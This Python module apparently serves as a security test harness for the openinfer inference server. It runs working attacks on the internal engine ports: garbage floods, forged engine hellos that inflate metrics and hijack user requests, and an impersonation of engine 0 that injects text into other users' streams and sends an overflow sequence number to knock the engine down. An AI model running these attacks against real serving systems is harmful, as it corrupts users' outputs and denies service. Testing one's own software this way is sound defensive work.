"""Issue 25's attacks on the engine ports: garbage, forged hellos, an impersonated engine (from the files a
local process can read)."""

from __future__ import annotations

import asyncio
import json
import os
import random
import time
from collections.abc import Callable
from pathlib import Path

import aiohttp
import msgspec
from tokenizers import Tokenizer

from openinfer.benchmarks.attack_target import Target, engines_up, max_model_len, metric_sum, post
from openinfer.benchmarks.engine_ports import EnginePorts, hello, outputs
from openinfer.engine_core.builtin_model import builtin_target_folder
from openinfer.protocol import (
    EngineCoreOutput,
    EngineOutputCodec,
    SpecDecodeCounters,
    engine_identity,
)

FORGED_INDEX = 64  # the first index forged engines claim: openinfer-serve's engines have lower ones
# /health is watched this long after the forged seqs: past the frontend's default --engine-timeout (5 s)
WEDGE_WATCH_S = 8.0


def garbage(n: int) -> list[bytes]:
    """The n-th garbage message: random bytes, msgpack of the wrong shape, two frames, or outputs of an
    incarnation that never said hello (four protocol-error paths)."""
    if n % 4 == 0:
        return [os.urandom(32)]
    if n % 4 == 1:
        return [msgspec.msgpack.encode(["out", n, "garbage"])]
    if n % 4 == 2:
        return [b"garbage", b"garbage"]
    return [EngineOutputCodec().encode(outputs(1000 + n % 1000, random.getrandbits(64), 1, []))]


async def garbage_flood(target: Target) -> str:
    """Garbage on the engine outputs port for ``seconds``, as fast as the frontend takes it."""
    ports = EnginePorts(target.engine_port)
    try:
        if (refused := await ports.refusal()) is not None:
            return refused
        before = await metric_sum(target, "openinfer:protocol_errors_total")
        sent, deadline = 0, time.monotonic() + target.seconds
        while time.monotonic() < deadline and await ports.send(garbage(sent)):
            sent += 1
        counted = await metric_sum(target, "openinfer:protocol_errors_total") - before
    finally:
        ports.close()
    return f"{sent:,} garbage messages: protocol_errors_total +{counted:,.0f} by the end"


async def forged_hellos(target: Target) -> str:
    """Joins as an engine whose counters hold 1e15 drafts and heart-beats for half the time, taking the user
    requests that come while long requests keep the real engine busy; then joins as another engine with
    max_model_len 8; then sends up to ``hellos`` hellos of distinct indices (memory and series growth)."""
    engine = hello(target.model, FORGED_INDEX)
    ports = EnginePorts(target.engine_port, engine_identity(FORGED_INDEX, engine.incarnation))
    try:
        if (refused := await ports.refusal()) is not None:
            return refused
        drafts = await metric_sum(target, "vllm:spec_decode_num_drafts_total")
        await ports.send(engine)
        long_request = target.body(max_tokens=2000, ignore_eos=True)
        busy = [asyncio.create_task(post(target, long_request, target.seconds / 2)) for _ in range(2)]
        drafted = 10**15  # drafts of one token, none accepted
        inflated = SpecDecodeCounters(
            7,
            drafted,
            drafted,
            0,
            [0] * 7,
            [drafted] + [0] * 7,
            [drafted] + [0] * 6,
            0,
            [drafted] + [0] * 6,
            [0] * 7,
        )
        received = 0
        for seq in range(1, int(target.seconds) + 1):  # a heartbeat every half second, for half the time
            await ports.send(outputs(FORGED_INDEX, engine.incarnation, seq, [], inflated))
            received += await ports.requests_received(0.5)
        await asyncio.gather(*busy)
        raised = await metric_sum(target, "vllm:spec_decode_num_drafts_total") - drafts
        length = await max_model_len(target)
        await ports.send(hello(target.model, FORGED_INDEX + 1, max_model_len=8))
        shrunk, sent, deadline = length, 0, time.monotonic() + 2.0  # the frontend reads a hello in ms
        while shrunk == length and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
            shrunk = await max_model_len(target)
        while sent < target.hellos and await ports.send(hello(target.model, 1000 + sent)):
            sent += 1
        peak, up = -1, await engines_up(target)
        while up > peak:  # until the frontend has read them all
            peak = up
            await asyncio.sleep(0.5)
            up = await engines_up(target)
    finally:
        ports.close()
    return (
        f"joined: drafts_total +{raised:.3g}, user requests received: {received}; max_model_len {length}→{shrunk}; "
        f"{sent:,} forged hellos: engines_up peaked at {peak:,}"
    )


def read_incarnation(target: Target) -> tuple[int, str] | None:
    """Engine 0's incarnation as a local process that can read the files finds it, and where (with the
    file's mode); None when neither file tells it."""
    spec_log, state = target.spec_log_dir / "spec-engine0.jsonl", target.state_dir / "frontend-state.json"
    readers: list[tuple[Path, Callable[[bytes], int]]] = [
        (spec_log, lambda data: int(json.loads(data.splitlines()[-1])["incarnation"], 16)),
        (state, lambda data: int(json.loads(data)["incarnations"]["0"])),
    ]
    for path, read in readers:
        try:
            return read(path.read_bytes()), f"{path.name} (mode {path.stat().st_mode & 0o777:04o})"
        except (OSError, ValueError, KeyError, IndexError, TypeError):
            continue
    return None


async def streamed_text(target: Target) -> str:
    """Another user's streaming completion: the text it got within ``seconds``."""
    body, text = target.body(max_tokens=1000, ignore_eos=True, stream=True), []
    try:
        limit = aiohttp.ClientTimeout(total=target.seconds)
        async with target.session.post(f"{target.url}/v1/completions", json=body, timeout=limit) as response:
            async for line in response.content:
                if line.startswith(b"data: {"):
                    text += [choice.get("text", "") for choice in json.loads(line[6:]).get("choices", [])]
    except (TimeoutError, aiohttp.ClientError):
        pass
    return "".join(text)


async def impersonation(target: Target) -> str:
    """Poses as live engine 0 with the incarnation read from a file: injects text into each request its
    spec log shows in flight (with a seq far ahead), then sends seq 2^63-1 and watches /health."""
    if (found := read_incarnation(target)) is None:
        return "no incarnation readable: nothing to pose as"
    incarnation, source = found
    tokenizer = Tokenizer.from_file(str(builtin_target_folder() / "tokenizer.json"))
    hacked = tokenizer.encode(" HACKED BY A LOCAL PEER").ids
    spec_log, ports = target.spec_log_dir / "spec-engine0.jsonl", EnginePorts(target.engine_port)
    try:
        if (refused := await ports.refusal()) is not None:
            return f"incarnation from {source}; {refused}"
        offset = spec_log.stat().st_size  # requests drafted before now are over
        client, injected = asyncio.create_task(streamed_text(target)), set[str]()
        while not client.done() and len(injected) < 16:
            lines = spec_log.read_bytes()[offset:].split(b"\n")[:-1]  # complete lines only
            for request_id in {json.loads(line)["request_id"] for line in lines} - injected:
                output = EngineCoreOutput(request_id=request_id, new_token_ids=hacked)
                await ports.send(outputs(0, incarnation, 2**62 + len(injected), [output]))
                injected.add(request_id)
            await asyncio.sleep(0.05)
        seen = "HACKED BY A LOCAL PEER" in await client
        await ports.send(outputs(0, incarnation, 2**63 - 1, []))
        sent, down = time.monotonic(), None
        while down is None and time.monotonic() - sent < WEDGE_WATCH_S:
            down = time.monotonic() - sent if await engines_up(target) == 0 else None
            await asyncio.sleep(0.25)
    finally:
        ports.close()
    after = f"engine 0 up for {WEDGE_WATCH_S:g} s" if down is None else f"engine 0 down {down:.1f} s later"
    return (
        f"incarnation from {source}; streams injected into: {len(injected)}, "
        f"{'seen' if seen else 'not seen'} by a client; after seq 2^63-1: {after}"
    )
